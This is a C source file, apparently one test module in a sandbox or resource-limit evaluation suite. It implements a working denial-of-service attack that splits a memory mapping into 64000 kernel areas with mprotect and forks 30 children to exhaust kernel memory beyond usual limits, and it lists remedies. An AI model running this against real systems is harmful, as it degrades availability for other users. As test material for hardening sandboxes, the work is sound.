// SPDX-License-Identifier: MIT
/*
 * split-areas.c - a memory bomb of maps without a land.
 *
 * Goal: more memory than the budget.
 * Means: every other page of a range that nobody touches gets another protection, so that the range
 * falls into 64000 areas of 200 bytes each in the kernel, and fork(2) copies them all. There is no
 * page, so nothing is resident; PROT_NONE is not RLIMIT_DATA's, and the addresses are few. 29
 * processes hold some 380 MiB.
 */
#include "attacks/attack.h"

#include <signal.h>
#include <sys/mman.h>
#include <unistd.h>

enum { AREAS = 64000, CHILDREN = 30, PAGE = 4096 };

static enum claim run(const struct brief *b)
{
	pid_t child[CHILDREN];
	enum claim claim;
	char *range;
	int n = 0;

	attempting(b);
	range = mmap(NULL, (size_t)AREAS * PAGE, PROT_NONE,
		     MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (range == MAP_FAILED)
		return denied("mmap");
	for (long i = 0; i < AREAS; i += 2)
		if (mprotect(range + i * PAGE, PAGE, PROT_READ))
			return denied("mprotect");
	while (n < CHILDREN && (child[n] = fork()) >= 0)
		if (child[n++] == 0)
			_exit((int)sleep(5));
	claim = n < CHILDREN ? denied("fork") : hold();
	while (n-- > 0)
		kill(child[n], SIGKILL);
	return claim;
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget",
	.means = "address spaces cut into 64000 areas by mprotect(2), and copied by fork(2)",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "count mappings too; deny fork; a memory cgroup with kernel memory",
	.refs = (const char *const[]){ "proc_sys_vm(5): max_map_count", "mprotect(2)", NULL },
	.run = run,
};
